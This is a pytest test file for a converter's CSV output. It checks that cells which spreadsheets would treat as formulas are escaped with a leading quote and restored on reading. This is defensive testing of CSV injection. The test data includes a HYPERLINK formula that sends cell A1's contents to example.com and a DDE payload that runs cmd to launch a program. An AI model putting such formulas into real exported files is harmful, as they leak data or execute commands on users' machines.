"""Cells that a spreadsheet would take for formulas."""

import csv
import io

import pytest
from helpers.reports import sample
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from converter.loading.table import read_facts_csv
from converter.outputs.facts_csv import render_facts_csv
from converter.outputs.spreadsheet import guarded, unguarded
from converter.outputs.table import rows_of

ROWS = tuple(rows_of(sample()))
FORMULA = '=HYPERLINK("http://example.com?leak="&A1,"Total assets")'


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (FORMULA, f"'{FORMULA}"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("- continued", "'- continued"),
        ("--06-30", "'--06-30"),
        ("-", "'-"),
        ("'=1+1", "''=1+1"),
        ("'-5", "''-5"),
        ("-5", "-5"),
        ("-1,013", "-1,013"),
        ("+5.25", "+5.25"),
        ("'70s revival tour", "'70s revival tour"),
        ("a=b", "a=b"),
        ("(1,013)", "(1,013)"),
        ("", ""),
    ],
)
def test_a_cell(text: str, cell: str) -> None:
    assert guarded(text) == cell
    assert unguarded(cell) == text


@given(st.text(st.sampled_from("'=+-@\t\r\n1.,ab"), max_size=6) | st.text(max_size=6))
def test_no_cell_is_a_formula_and_every_one_comes_back(text: str) -> None:
    cell = guarded(text)
    assert unguarded(cell) == text
    assert not cell.startswith(("=", "@", "\t", "\r", "\n"))
    if cell.startswith(("+", "-")):
        float(cell.replace(",", ""))


def test_the_table_of_facts() -> None:
    rows = [replace(row, label=FORMULA, entity_name="-Inc", source_file="@a.txt") for row in ROWS]
    text = render_facts_csv(rows)
    cells = list(csv.DictReader(io.StringIO(text, newline="")))
    assert {cell["label"] for cell in cells} == {f"'{FORMULA}"}
    assert {cell["entity_name"] for cell in cells} == {"'-Inc"}
    assert {cell["source_file"] for cell in cells} == {"'@a.txt"}
    assert [cell["value"] for cell in cells if cell["concept"] == "NetIncomeLoss"] == ["-1013000", "112000"]
    report = read_facts_csv(text.encode())
    assert {fact.label for fact in report.facts} == {FORMULA}
